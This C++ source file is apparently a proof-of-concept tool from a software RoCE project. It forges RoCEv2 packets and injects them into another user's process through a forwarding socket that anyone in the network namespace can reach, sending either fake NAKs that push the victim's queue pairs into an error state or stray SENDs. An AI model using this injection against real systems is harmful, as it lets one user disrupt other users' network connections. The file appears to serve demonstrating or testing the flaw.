// Another user's process posing as the wire: it hands RoCEv2 packets to a
// victim process's forwarding socket (transport/roce_forward.h), whose
// abstract name anyone in the network namespace can send to, through our
// own Forwarder so the messages are exactly what the victim expects.
//   forward_inject SLOT SRC_IP DST_IP DST_QPN PSN COUNT [nak|send]
// Sends, for each PSN in [PSN, PSN+COUNT), as if from SRC_IP to the QP
// DST_QPN of the process of registry slot SLOT (of the domain
// SOFTVERBS_DOMAIN names), with a valid ICRC:
//   nak   (default) an RC ACKNOWLEDGE carrying a NAK (remote access error).
//         Processed, one for an outstanding PSN fails that QP's send with
//         REM_ACCESS_ERR and moves it to the error state.
//   send  an RC SEND ONLY: to a QPN with no QP, each processed one counts
//         in the receiver's no_qp counter.
#include <arpa/inet.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <string>
#include <vector>

#include "net/roce_datagram.h"
#include "net/roce_frame.h"
#include "net/roce_header.h"
#include "net/roce_opcode.h"
#include "transport/roce_forward.h"

using namespace sv::net;

int main(int argc, char** argv) {
  if (argc != 7 && argc != 8) {
    std::fprintf(stderr, "usage: %s SLOT SRC_IP DST_IP DST_QPN PSN COUNT [nak|send]\n", argv[0]);
    return 2;
  }
  const bool send = argc == 8 && std::string(argv[7]) == "send";
  const uint32_t slot = static_cast<uint32_t>(std::strtoul(argv[1], nullptr, 0));
  in_addr src{}, dst{};
  if (inet_pton(AF_INET, argv[2], &src) != 1 || inet_pton(AF_INET, argv[3], &dst) != 1) return 2;
  const uint32_t qpn = static_cast<uint32_t>(std::strtoul(argv[4], nullptr, 0));
  const uint32_t psn = static_cast<uint32_t>(std::strtoul(argv[5], nullptr, 0));
  const int count = std::atoi(argv[6]);
  sv::Forwarder fwd;
  if (!fwd.open(0)) return std::perror("forwarding socket"), 1;  // slot 0 is nobody's
  DatagramAddrs addrs;
  addrs.src_ip = v4_mapped(src.s_addr);
  addrs.dst_ip = v4_mapped(dst.s_addr);
  addrs.src_port = 49152;
  addrs.dst_port = 4791;
  sv::DatagramInfo info;
  info.src = addrs.src_ip;
  info.dst = addrs.dst_ip;
  info.src_port = addrs.src_port;
  std::vector<uint8_t> buf(kDatagramHeadroom + kDatagramOverhead + 64);
  int sent = 0;
  for (int i = 0; i < count; ++i) {
    RocePacket p;
    p.bth.dest_qp = qpn;
    p.bth.psn = (psn + static_cast<uint32_t>(i)) & 0xffffff;
    const uint8_t payload[16] = {};
    size_t n = 0;
    if (send) {
      p.bth.opcode = kTransportRc | kSendOnly;
      n = build_datagram(addrs, p, payload, sizeof payload, buf.data());
    } else {
      p.bth.opcode = kTransportRc | kAck;
      p.aeth.syndrome = aeth_nak(NakCode::kRemoteAccessError);
      p.aeth.msn = static_cast<uint32_t>(i) & 0xffffff;
      n = build_datagram(addrs, p, nullptr, 0, buf.data());
    }
    if (n && fwd.forward(slot, info, 4791, buf.data() + kDatagramHeadroom, n)) ++sent;
  }
  std::printf("forwarded %d forged %s to slot %u QPN %#x\n", sent, send ? "SENDs" : "NAKs", slot, qpn);
  return sent > 0 ? 0 : 1;
}
